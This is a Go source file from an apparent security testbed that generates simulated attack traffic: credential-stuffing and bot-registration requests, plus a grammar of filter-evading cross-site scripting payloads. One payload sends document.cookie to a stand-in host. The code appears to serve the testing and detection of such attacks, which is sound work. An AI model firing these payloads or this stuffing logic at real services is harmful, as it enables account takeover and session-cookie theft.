// SPDX-License-Identifier: Apache-2.0

package attack

import (
	"context"
	"encoding/csv"
	"fmt"
	"net/url"
	"os"
	"strings"
	"sync"
	"time"

	"stgraph/testbed/internal/httpc"
	"stgraph/testbed/internal/plan"
	"stgraph/testbed/internal/rng"
)

const patience = 10 * time.Second

// own is the client for stuffing, registration and payloads: each request from another address
// over a connection of its own, open loop, with the uneven spacing of a script.
func (r *Runner) own(ctx context.Context, e *plan.Event, res *Result) error {
	s := rng.New(r.Seed, "own", e.ID)
	t := r.Topo.EdgeRoute(e.Edge[2])
	if t == nil {
		return fmt.Errorf("no route %q", e.Edge[2])
	}
	var wg sync.WaitGroup
	start := time.Now()
	for _, at := range schedule(e, s) {
		if !sleep(ctx, time.Until(start.Add(time.Duration(at*float64(time.Second))))) {
			break
		}
		c := &httpc.Client{From: e.Clients[s.IntN(len(e.Clients))], To: r.Target,
			Agent: "python-requests/2.28", Timeout: patience}
		form := r.abuse(e, s, t.Param)
		setFirst(&res.FirstNS)
		wg.Add(1)
		go func() {
			defer wg.Done()
			c.Do(ctx, t.Method(), t.Path(), form, "")
			c.Close()
		}()
	}
	wg.Wait()
	return nil
}

// schedule lists the seconds at which requests go out: unevenly spaced steps on a clock that runs
// with the rate, slower while the attack ramps up.
func schedule(e *plan.Event, s *rng.Stream) []float64 {
	var out []float64
	from, gap := 0.0, s.Float()
	for _, p := range phases(e) {
		rate := e.Rate * p.share
		at := from + gap/rate
		for ; at < from+p.seconds; at += gap / rate {
			out = append(out, at)
			gap = s.Range(0.4, 1.6)
		}
		gap = (at - from - p.seconds) * rate // what is left of the step in the next phase
		from += p.seconds
	}
	return out
}

// abuse is the form of one malicious request.
func (r *Runner) abuse(e *plan.Event, s *rng.Stream, param string) url.Values {
	switch e.Class {
	case "cred_stuffing": // a leaked list: another user each time, one in seventy still works
		user := fmt.Sprintf("u%d", s.IntN(100000))
		pass := fmt.Sprintf("leak%d", s.IntN(1<<30))
		if s.Bool(1.0 / 70) {
			pass = "pw-" + user
		}
		return url.Values{"user": {user}, "pass": {pass}}
	case "bot_registration":
		return url.Values{"user": {fmt.Sprintf("bot%x", s.IntN(1<<30))}, "pass": {"Passw0rd!"}}
	}
	if len(r.Payloads) > 0 {
		return url.Values{param: {r.Payloads[s.IntN(len(r.Payloads))]}}
	}
	return url.Values{param: {payload(s)}}
}

// payload writes a cross-site scripting payload from a small grammar. Some of them (the ones with
// entities) pass the services' simple rule, as some do in life.
func payload(s *rng.Stream) string {
	one := func(list ...string) string { return list[s.IntN(len(list))] }
	code := one("alert(1)", "alert(document.cookie)", "fetch('//x.example/'+document.cookie)",
		"eval(name)", "&#97;lert&#40;1&#41;", "top['al'+'ert'](1)")
	switch s.IntN(6) {
	case 0:
		return one("", "\">", "'>", "</title>") + one("<script>", "<ScRiPt>", "<script/x>") + code + "</script>"
	case 1:
		return "<img src=x " + one("onerror=", "OnError=", "onerror =") + code + ">"
	case 2:
		return "<svg/onload=" + code + ">"
	case 3:
		return "<a href=\"" + one("javascript:", "JaVaScRiPt:", "java&#115;cript:") + code + "\">x</a>"
	case 4:
		return "\" onmouseover=" + code + " x=\""
	}
	return "<iframe src=javascript:" + code + "></iframe>"
}

// ReadPayloads takes the rows of type xss out of a CSV of request parameters with a header line
// (columns payload and attack_type).
func ReadPayloads(path string) ([]string, error) {
	f, err := os.Open(path)
	if err != nil {
		return nil, err
	}
	defer f.Close()
	rd := csv.NewReader(f)
	rd.LazyQuotes, rd.FieldsPerRecord = true, -1
	rows, err := rd.ReadAll()
	if err != nil {
		return nil, fmt.Errorf("%s: %w", path, err)
	}
	var out []string
	for _, row := range rows {
		if len(row) >= 3 && strings.TrimSpace(row[2]) == "xss" {
			out = append(out, row[0])
		}
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("%s: no row of type xss", path)
	}
	return out, nil
}
